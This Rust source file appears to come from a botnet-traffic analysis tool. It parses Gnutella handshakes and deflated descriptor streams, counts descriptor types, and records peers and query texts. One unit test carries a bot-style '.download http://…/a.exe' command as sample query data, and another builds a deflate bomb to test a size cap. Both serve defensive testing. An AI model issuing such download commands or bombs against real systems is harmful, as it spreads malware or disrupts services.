//! Per-connection Gnutella state: the handshake heads of both sides
//! (0.6: connect, response, final response; 0.4: connect, `GNUTELLA
//! OK`), then the descriptor stream of each direction, inflated when its
//! sender announced `Content-Encoding: deflate`. Counts descriptors by
//! type, keeps the peers pongs and `X-Try-Ultrapeers` headers name and the
//! search texts of queries; one `P2pLink` when the connection ends.

use super::entropy::ByteTally;
use super::parser::{
    parse_descriptor_header, parse_head, pong_peer, query_text, try_peers, HandshakeHead, Head,
    DESCRIPTOR_HEADER, MAX_HEAD,
};
use crate::{FlowCtx, Output, Record};
use botscope_core::events::{Conn, Event, Evidence, GnutellaDescriptors, P2pLink};

/// Most learnt peers kept per link.
pub const MAX_PEERS: usize = 64;
/// Most query texts kept per link.
pub const MAX_QUERIES: usize = 16;
/// Most inflated bytes read per direction: descriptor counts beyond it
/// are not needed to tell the link's kind, and it bounds a deflate bomb.
pub const MAX_INFLATED: u64 = 16 << 20;

/// One direction of the link.
#[derive(Default)]
struct Side {
    /// Head bytes buffered (at most `MAX_HEAD`).
    head: Vec<u8>,
    /// Heads still expected before descriptors.
    heads_left: u8,
    /// Inflater when the sender compresses.
    inflate: Option<Box<flate2::Decompress>>,
    /// Descriptor bytes not yet framed (a header and its payload).
    buf: Vec<u8>,
    /// Whether the stream stopped parsing (bad framing or inflate error).
    failed: bool,
    /// Inflated bytes so far.
    inflated: u64,
    /// First payload bytes, raw, for the entropy figure.
    tally: ByteTally,
}

/// State of one Gnutella connection.
#[derive(Default)]
pub struct GnutellaState {
    sides: [Side; 2],
    started: bool,
    status: Option<u16>,
    user_agent: Option<String>,
    /// A head asked to upgrade the link (`Connection: Upgrade`).
    upgrade: bool,
    /// The link went on in TLS.
    tls: bool,
    /// A side sends Gnutella2 packets.
    g2: bool,
    descriptors: GnutellaDescriptors,
    learnt: Vec<String>,
    queries: Vec<String>,
    first_pkt: Option<u64>,
}

impl std::fmt::Debug for GnutellaState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("GnutellaState")
            .field("status", &self.status)
            .field("descriptors", &self.descriptors)
            .finish()
    }
}

impl GnutellaState {
    /// Bytes this connection's state holds.
    pub fn held_bytes(&self) -> usize {
        std::mem::size_of::<Self>()
            + self
                .sides
                .iter()
                .map(|s| {
                    s.head.capacity()
                        + s.buf.capacity()
                        + s.inflate.as_ref().map_or(0, |_| 48 << 10)
                })
                .sum::<usize>()
            + self.learnt.iter().map(String::capacity).sum::<usize>()
            + self.queries.iter().map(String::capacity).sum::<usize>()
    }

    /// In-order bytes of one direction.
    pub fn on_data(&mut self, ctx: &FlowCtx<'_>, from_orig: bool, data: &[u8], out: &mut Output) {
        if !self.started {
            self.started = true;
            // 0.6: the originator sends CONNECT and, after the answer, its
            // own final response; 0.4 has no final response (set when the
            // CONNECT head is read).
            self.sides[0].heads_left = 2;
            self.sides[1].heads_left = 1;
        }
        self.first_pkt.get_or_insert(ctx.pkt_no);
        let d = usize::from(!from_orig);
        self.sides[d].tally.add(data);
        let mut data = data;
        while self.sides[d].heads_left > 0 && !data.is_empty() && !self.sides[d].failed {
            let side = &mut self.sides[d];
            let old = side.head.len();
            let take = data.len().min(MAX_HEAD - old);
            side.head.extend_from_slice(&data[..take]);
            match parse_head(&side.head) {
                Head::Partial if take == data.len() => return,
                Head::Partial | Head::Invalid => {
                    out.anomaly(ctx, "gnutella_bad_handshake");
                    side.failed = true;
                    return;
                }
                Head::Complete(h, n) => {
                    side.head = Vec::new();
                    side.heads_left -= 1;
                    // The head ends in this piece: `old` bytes were parsed
                    // before without finding its end.
                    data = data.get(n.saturating_sub(old)..).unwrap_or_default();
                    self.on_head(d, &h);
                }
            }
        }
        if self.sides[d].heads_left == 0 && !self.sides[d].failed && !data.is_empty() {
            self.on_stream(ctx, d, data, out);
        }
    }

    /// Takes what one head says: the status, the user agent, tried peers,
    /// whether the sender deflates from here on.
    fn on_head(&mut self, d: usize, h: &HandshakeHead) {
        if h.is_connect() {
            if !h.start_line.contains("/0.6") {
                self.sides[d].heads_left = 0;
            }
            if self.user_agent.is_none() {
                self.user_agent = h
                    .header("User-Agent")
                    .map(|u| u.chars().take(256).collect());
            }
        } else if d == 1 {
            self.status = h.status;
        }
        for name in ["X-Try-Ultrapeers", "X-Try"] {
            if let Some(v) = h.header(name) {
                for (ip, port) in try_peers(v) {
                    self.learn(format!("{ip}:{port}"));
                }
            }
        }
        if h.header("Connection")
            .is_some_and(|v| v.to_ascii_lowercase().contains("upgrade"))
        {
            self.upgrade = true;
        }
        if h.header("Content-Type")
            .is_some_and(|v| v.to_ascii_lowercase().contains("x-gnutella2"))
        {
            // Gnutella2 packets follow, not 0.6 descriptors: not framed.
            self.g2 = true;
            for s in &mut self.sides {
                s.failed = true;
            }
        }
        if h.deflates() && !h.is_connect() {
            self.sides[d].inflate = Some(Box::new(flate2::Decompress::new(true)));
        }
    }

    fn learn(&mut self, peer: String) {
        if self.learnt.len() < MAX_PEERS && !self.learnt.contains(&peer) {
            self.learnt.push(peer);
        }
    }

    /// Descriptor bytes of one direction, inflated first when compressed.
    fn on_stream(&mut self, ctx: &FlowCtx<'_>, d: usize, data: &[u8], out: &mut Output) {
        if self.upgrade && data.starts_with(&[0x16, 0x03]) {
            // The upgrade went through: TLS records from here on.
            self.tls = true;
            for s in &mut self.sides {
                s.failed = true;
            }
            return;
        }
        let Some(mut z) = self.sides[d].inflate.take() else {
            self.frame(ctx, d, data, out);
            return;
        };
        let mut input = data;
        let mut chunk = vec![0u8; 16 << 10];
        while !input.is_empty() && self.sides[d].inflated < MAX_INFLATED && !self.sides[d].failed {
            let (in0, out0) = (z.total_in(), z.total_out());
            match z.decompress(input, &mut chunk, flate2::FlushDecompress::Sync) {
                Ok(status) => {
                    let used = (z.total_in() - in0) as usize;
                    let made = (z.total_out() - out0) as usize;
                    input = &input[used..];
                    self.sides[d].inflated += made as u64;
                    self.frame(ctx, d, &chunk[..made], out);
                    if status == flate2::Status::StreamEnd || (used == 0 && made == 0) {
                        break;
                    }
                }
                Err(_) => {
                    out.anomaly(ctx, "gnutella_bad_deflate");
                    self.sides[d].failed = true;
                }
            }
        }
        self.sides[d].inflate = Some(z);
    }

    /// Frames descriptors: a 23-byte header, then its payload.
    fn frame(&mut self, ctx: &FlowCtx<'_>, d: usize, data: &[u8], out: &mut Output) {
        let mut buf = std::mem::take(&mut self.sides[d].buf);
        buf.extend_from_slice(data);
        let mut at = 0;
        while buf.len() - at >= DESCRIPTOR_HEADER {
            let Some(h) = parse_descriptor_header(&buf[at..]) else {
                out.anomaly(ctx, "gnutella_bad_descriptor");
                self.sides[d].failed = true;
                return;
            };
            let end = at + DESCRIPTOR_HEADER + h.len as usize;
            if buf.len() < end {
                break;
            }
            self.descriptor(h.payload_type, &buf[at + DESCRIPTOR_HEADER..end]);
            at = end;
        }
        buf.drain(..at);
        self.sides[d].buf = buf;
    }

    fn descriptor(&mut self, payload_type: u8, payload: &[u8]) {
        let c = &mut self.descriptors;
        match payload_type {
            0x00 => c.ping += 1,
            0x01 => {
                c.pong += 1;
                if let Some((ip, port)) = pong_peer(payload) {
                    self.learn(format!("{ip}:{port}"));
                }
            }
            0x02 => c.bye += 1,
            0x30 => c.qrp += 1,
            0x31 | 0x32 => c.vendor += 1,
            0x40 => c.push += 1,
            0x80 => {
                c.query += 1;
                if let Some(q) = query_text(payload) {
                    if self.queries.len() < MAX_QUERIES {
                        self.queries.push(q);
                    }
                }
            }
            0x81 => c.query_hit += 1,
            _ => c.other += 1,
        }
    }

    /// The connection ended: its link event, sized from the conn record.
    pub fn on_end(&mut self, ctx: &FlowCtx<'_>, conn: &Conn, out: &mut Output) {
        let link = P2pLink {
            ts: conn.ts,
            uid: ctx.uid.to_string(),
            id: *ctx.key,
            protocol: "gnutella".into(),
            status: self.status,
            user_agent: self.user_agent.take(),
            descriptors: std::mem::take(&mut self.descriptors),
            tls: self.tls,
            gnutella2: self.g2,
            learnt_peers: std::mem::take(&mut self.learnt),
            queries: std::mem::take(&mut self.queries),
            duration: conn.duration.unwrap_or(0.0),
            orig_bytes: conn.orig_bytes.unwrap_or(0),
            resp_bytes: conn.resp_bytes.unwrap_or(0),
            orig_entropy: round3(self.sides[0].tally.entropy()),
            resp_entropy: round3(self.sides[1].tally.entropy()),
            evidence: Evidence {
                file: ctx.file,
                packets: vec![self.first_pkt.unwrap_or(ctx.pkt_no), ctx.pkt_no],
            },
        };
        out.push(Record {
            event: Event::P2p(link),
            dns_opcode: None,
            irc_log_row: false,
        });
    }
}

/// Rounds to three decimals (entropies are figures, not measurements to
/// carry at full precision through JSON).
pub(crate) fn round3(x: f64) -> f64 {
    (x * 1000.0).round() / 1000.0
}

#[cfg(test)]
mod tests {
    use super::*;
    use botscope_core::{FlowKey, Proto, Ts};
    use std::io::Write;

    fn key() -> FlowKey {
        FlowKey {
            orig_h: "10.0.0.1".parse().unwrap(),
            orig_p: 4000,
            resp_h: "10.0.0.2".parse().unwrap(),
            resp_p: 6346,
            proto: Proto::Tcp,
        }
    }

    fn descriptor(t: u8, payload: &[u8]) -> Vec<u8> {
        let mut d = vec![0xab; 16];
        d.extend_from_slice(&[t, 7, 0]);
        d.extend_from_slice(&(payload.len() as u32).to_le_bytes());
        d.extend_from_slice(payload);
        d
    }

    fn end(s: &mut GnutellaState, ctx: &FlowCtx<'_>) -> (P2pLink, Vec<String>) {
        let conn = Conn {
            ts: Ts(0),
            uid: "C1".into(),
            id: *ctx.key,
            service: None,
            duration: Some(600.0),
            orig_bytes: Some(1),
            resp_bytes: Some(1),
            conn_state: "SF".into(),
            missed_bytes: 0,
            history: Default::default(),
            orig_pkts: 0,
            orig_ip_bytes: 0,
            resp_pkts: 0,
            resp_ip_bytes: 0,
            tunnel_parents: vec![],
            evidence: Default::default(),
        };
        let mut out = Output::default();
        s.on_end(ctx, &conn, &mut out);
        let (mut recs, anomalies) = out.take();
        match recs.pop().map(|r| r.event) {
            Some(Event::P2p(l)) => (l, anomalies),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn handshake_and_deflated_descriptors_split_across_packets() {
        let k = key();
        let ctx = FlowCtx {
            uid: "C1",
            key: &k,
            ts: Ts(0),
            file: 0,
            pkt_no: 1,
        };
        let mut s = GnutellaState::default();
        let mut out = Output::default();
        let connect = b"GNUTELLA CONNECT/0.6\r\nUser-Agent: BearShare 4.6.2\r\n\r\n";
        // The connect head arrives in two pieces.
        s.on_data(&ctx, true, &connect[..10], &mut out);
        s.on_data(&ctx, true, &connect[10..], &mut out);
        s.on_data(
            &ctx,
            false,
            b"GNUTELLA/0.6 200 OK\r\nContent-Encoding: deflate\r\nX-Try-Ultrapeers: 10.9.0.1:6346\r\n\r\n",
            &mut out,
        );
        // The final head and a query in one piece.
        let mut first = b"GNUTELLA/0.6 200 OK\r\n\r\n".to_vec();
        first.extend(descriptor(
            0x80,
            b"\x00\x00.download http://10.9.0.9/a.exe c:\\a.exe 1\x00",
        ));
        s.on_data(&ctx, true, &first, &mut out);
        // The responder's descriptors, deflated, cut mid-descriptor.
        let mut plain = descriptor(0x00, b"");
        plain.extend(descriptor(
            0x01,
            &[0xca, 0x18, 10, 0, 0, 7, 0, 0, 0, 0, 0, 0, 0, 0],
        ));
        plain.extend(descriptor(0x81, &[0u8; 40]));
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(&plain).unwrap();
        z.flush().unwrap();
        let packed = z.get_ref().clone();
        let cut = packed.len() / 2;
        s.on_data(&ctx, false, &packed[..cut], &mut out);
        s.on_data(&ctx, false, &packed[cut..], &mut out);
        let (l, anomalies) = end(&mut s, &ctx);
        assert!(anomalies.is_empty(), "{anomalies:?}");
        assert!(out.take().1.is_empty());
        assert_eq!(l.status, Some(200));
        assert_eq!(l.user_agent.as_deref(), Some("BearShare 4.6.2"));
        let d = &l.descriptors;
        assert_eq!((d.query, d.ping, d.pong, d.query_hit), (1, 1, 1, 1));
        assert_eq!(
            l.queries,
            vec![".download http://10.9.0.9/a.exe c:\\a.exe 1".to_string()]
        );
        assert_eq!(
            l.learnt_peers,
            vec!["10.9.0.1:6346".to_string(), "10.0.0.7:6346".to_string()]
        );
    }

    #[test]
    fn hostile_streams_stop_cleanly_and_stay_bounded() {
        let k = key();
        let ctx = FlowCtx {
            uid: "C1",
            key: &k,
            ts: Ts(0),
            file: 0,
            pkt_no: 1,
        };
        // A head that never ends.
        let mut s = GnutellaState::default();
        let mut out = Output::default();
        s.on_data(&ctx, true, b"GNUTELLA CONNECT/0.6\r\nX: ", &mut out);
        for _ in 0..20 {
            s.on_data(&ctx, true, &[b'a'; 1000], &mut out);
        }
        assert!(s.held_bytes() < 2 * crate::p2p::parser::MAX_HEAD + 4096);
        assert_eq!(out.take().1, vec!["gnutella_bad_handshake".to_string()]);
        // A descriptor length beyond the bound, then a deflate stream that
        // is garbage: each stops its side once, named.
        let mut s = GnutellaState::default();
        s.on_data(&ctx, true, b"GNUTELLA CONNECT/0.6\r\n\r\n", &mut out);
        s.on_data(
            &ctx,
            false,
            b"GNUTELLA/0.6 200 OK\r\nContent-Encoding: deflate\r\n\r\n",
            &mut out,
        );
        let mut big = b"GNUTELLA/0.6 200 OK\r\n\r\n".to_vec();
        big.extend_from_slice(&[1u8; 19]);
        big.extend_from_slice(&u32::MAX.to_le_bytes());
        s.on_data(&ctx, true, &big, &mut out);
        s.on_data(&ctx, true, &[0u8; 5000], &mut out);
        s.on_data(&ctx, false, &[0xff; 3000], &mut out);
        s.on_data(&ctx, false, &[0xff; 3000], &mut out);
        let (l, _) = end(&mut s, &ctx);
        let mut anomalies = out.take().1;
        anomalies.sort();
        assert_eq!(
            anomalies,
            vec!["gnutella_bad_deflate", "gnutella_bad_descriptor"]
        );
        assert_eq!(l.descriptors, GnutellaDescriptors::default());
        // A deflate bomb: inflation stops at MAX_INFLATED.
        let mut s = GnutellaState::default();
        s.on_data(&ctx, true, b"GNUTELLA CONNECT/0.6\r\n\r\n", &mut out);
        s.on_data(
            &ctx,
            false,
            b"GNUTELLA/0.6 200 OK\r\nContent-Encoding: deflate\r\n\r\n",
            &mut out,
        );
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        let ping = descriptor(0x00, b"");
        for _ in 0..(MAX_INFLATED as usize / ping.len() + 1000) {
            z.write_all(&ping).unwrap();
        }
        let packed = z.finish().unwrap();
        for c in packed.chunks(1460) {
            s.on_data(&ctx, false, c, &mut out);
        }
        let (l, _) = end(&mut s, &ctx);
        // Inflation goes in 16 KiB pieces and stops once the bound is met.
        let pings = l.descriptors.ping;
        assert!(
            (MAX_INFLATED / 23..=(MAX_INFLATED + (16 << 10)) / 23).contains(&pings),
            "{pings}"
        );
    }
}
